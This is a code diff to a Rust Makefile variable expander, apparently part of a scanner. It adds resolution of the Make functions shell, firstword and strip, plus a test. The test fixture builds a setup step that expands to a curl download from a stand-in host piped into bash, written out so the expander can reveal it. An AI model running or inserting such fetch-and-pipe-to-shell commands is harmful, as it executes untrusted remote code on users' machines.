@@ -4,6 +4,9 @@
 //! so a finding keeps its line.
 
 use std::collections::HashMap;
+use std::sync::LazyLock;
+
+use regex::Regex;
 
 /// Longest line an expansion may make; a longer one stays as written.
 const MAX_LINE: usize = 4096;
@@ -43,7 +46,7 @@ pub fn expand(text: &str) -> Option<String> {
                 if !current.contains("$(") && !current.contains("${") {
                     break;
                 }
-                let next = substitute(&current, &vars);
+                let next = functions(&substitute(&current, &vars));
                 if next == current || next.len() > MAX_LINE {
                     break;
                 }
@@ -75,6 +78,41 @@ fn definition(line: &str) -> Option<(&str, &str)> {
             .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-'));
     // `+=` appends: left alone rather than guessed.
     (valid && !line[..eq].ends_with('+')).then(|| (name, line[eq + 1..].trim()))
+}
+
+/// The innermost calls of the functions that pick a program: `$(shell
+/// command -v curl && echo 'curl -fsSL')` is the text it prints (what it
+/// echoes, or the program it looks up), `$(firstword bash sh)` its first
+/// word, `$(strip x)` its argument. Other functions stay as written.
+fn functions(line: &str) -> String {
+    static CALL: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"\$[({](shell|firstword|lastword|strip)\s+([^$(){}]*)[)}]")
+            .unwrap_or_else(|e| panic!("make function pattern: {e}"))
+    });
+    // What it echoes first, else the program it looks up.
+    static ECHO: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r#"\becho\s+(?:'([^']*)'|"([^"]*)"|([^\s;|&]+))"#)
+            .unwrap_or_else(|e| panic!("make echo pattern: {e}"))
+    });
+    static LOOKUP: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"\b(?:command\s+-v|which|type\s+-p)\s+([\w./+-]+)")
+            .unwrap_or_else(|e| panic!("make lookup pattern: {e}"))
+    });
+    CALL.replace_all(line, |c: &regex::Captures<'_>| {
+        let args = c[2].trim();
+        match &c[1] {
+            "shell" => [&*ECHO, &*LOOKUP]
+                .iter()
+                .find_map(|re| re.captures(args))
+                .and_then(|p| p.iter().skip(1).flatten().next())
+                .map_or(args, |m| m.as_str())
+                .to_owned(),
+            "firstword" => args.split_whitespace().next().unwrap_or("").to_owned(),
+            "lastword" => args.split_whitespace().last().unwrap_or("").to_owned(),
+            _ => args.to_owned(),
+        }
+    })
+    .into_owned()
 }
 
 /// One round: each reference to a known variable replaced by its value.
@@ -135,6 +173,17 @@ mod tests {
         assert!(
             is_makefile("build/Makefile") && is_makefile("rules.mk") && !is_makefile("make.py")
         );
+    }
+
+    #[test]
+    fn the_functions_that_pick_a_program_are_read() {
+        let make = "FETCH := $(shell command -v curl >/dev/null && echo 'curl -fsSL' || echo 'wget -qO-')\nRUNNER := $(firstword $(shell command -v bash sh))\nV = $(strip  2.1 )\nsetup:\n\t@$(FETCH) https://x.example/$(V)/i | $(RUNNER) -s\n\t@echo $(shell date) $(wildcard *.c)\n";
+        let out = expand(make).unwrap_or_default();
+        assert_eq!(
+            out.lines().nth(4),
+            Some("\t@curl -fsSL https://x.example/2.1/i | bash -s")
+        );
+        assert_eq!(out.lines().nth(5), Some("\t@echo date $(wildcard *.c)"));
     }
 
     #[test]
